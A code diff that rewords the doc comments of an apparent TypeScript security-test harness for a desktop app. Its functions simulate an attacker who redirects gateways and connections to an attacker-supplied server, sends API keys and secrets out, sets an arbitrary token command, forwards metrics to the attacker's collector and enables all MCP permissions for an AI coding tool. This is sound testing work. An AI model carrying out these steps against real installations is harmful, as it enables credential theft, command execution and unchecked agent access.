@@ -48,7 +48,7 @@ async function listed<T>(call: Attempt['call'], name: MethodName): Promise<T[]> 
   return Array.isArray(value) ? value : []
 }
 
-/** Another gateway for each plan; and its key by the clipboard. */
+/** Changes the gateway of each plan, and pastes its key again. */
 async function redirectPlans({ call, wanted }: Attempt): Promise<void> {
   const gatewayUrl = wanted.serverUrl
   for (const { id: planId, name, models, keys } of await listed<PlanView>(call, 'plans.list')) {
@@ -80,7 +80,7 @@ const idIn = (answer: Answer): string => getField(answer, 'id')
 const everyAddress = (url: string): Record<string, string> =>
   Object.fromEntries(addressKeys.map((key) => [key, key === 'registryHost' ? new URL(url).host : url]))
 
-/** A connection of the attacker's own: their addresses and their secret. */
+/** A connection with the attacker's addresses and secret. */
 async function foreignConnection({ call, wanted }: Attempt): Promise<string> {
   await call('app.copyText', { text: ownSecret })
   const pendingId = pendingIn(await call('connections.takeSecretFromClipboard', { kind: 'pasted' }))
@@ -95,7 +95,7 @@ async function foreignConnection({ call, wanted }: Attempt): Promise<string> {
   return String(Reflect.get(Object(connection), 'id'))
 }
 
-/** Other addresses for each connection, with its secret, with another, and with another token server. */
+/** Changes the addresses of each connection, with its secret, another secret, and another token server. */
 async function redirectConnections({ call, wanted }: Attempt): Promise<void> {
   const addresses = everyAddress(wanted.serverUrl)
   for (const { id, name, tokenSource } of await listed<ConnectionView>(call, 'connections.list')) {
@@ -117,7 +117,7 @@ async function redirectConnections({ call, wanted }: Attempt): Promise<void> {
   }
 }
 
-/** A secret of an answer, carried to the attacker's own connection. */
+/** Sends a secret of a response to the attacker's connection. */
 async function carryHeldSecret({ call }: Attempt, connectionId: string): Promise<void> {
   const lab = (await listed<ConnectionView>(call, 'connections.list')).find(({ name }) => name === 'Lab')
   const operation = 'aip.apiKeys.create'
@@ -136,7 +136,7 @@ async function carryHeldSecret({ call }: Attempt, connectionId: string): Promise
   await call('playground.complete', { target, prompt: 'hello', parameters: {} })
 }
 
-/** A program for the tokens of a connection. */
+/** Sets a token command for a connection. */
 async function runProgram({ call, wanted }: Attempt): Promise<void> {
   const tokenSource = { kind: 'command', command: wanted.command }
   const addresses = everyAddress(wanted.serverUrl)
@@ -147,7 +147,7 @@ async function runProgram({ call, wanted }: Attempt): Promise<void> {
   }
 }
 
-/** Each key of a plan, as the password of a database of the attacker. */
+/** Uses each key of a plan as the password of the attacker's database. */
 async function joinDatabase({ call, wanted }: Attempt): Promise<void> {
   for (const { id: planId, keys } of await listed<PlanView>(call, 'plans.list')) {
     for (const { id: keyId } of keys) {
@@ -162,7 +162,7 @@ async function joinDatabase({ call, wanted }: Attempt): Promise<void> {
   await call('team.create', { spaceName: 'ours', personName: 'me', address: wanted.databaseUrl, pendingId })
 }
 
-/** A collector of the attacker for the figures of every request. */
+/** Sets the attacker's collector for metrics. */
 async function sendMetrics({ call, wanted }: Attempt): Promise<void> {
   await call('metrics.setOtlp', { endpoint: wanted.serverUrl, sendsSpans: true })
   await call('app.copyText', { text: ownSecret })
@@ -172,7 +172,7 @@ async function sendMetrics({ call, wanted }: Attempt): Promise<void> {
   })
 }
 
-/** Calls of the MCP server that cost or write, and a copy of an MCP server with its values to another tool. */
+/** Allows paid and writing MCP calls, and copies an MCP server with its values to another tool. */
 async function widenMcp({ call }: Attempt): Promise<void> {
   for (const permission of McpPermission.options)
     await call('mcp.setPermission', { toolId: 'claude-code', permission, isOn: true })
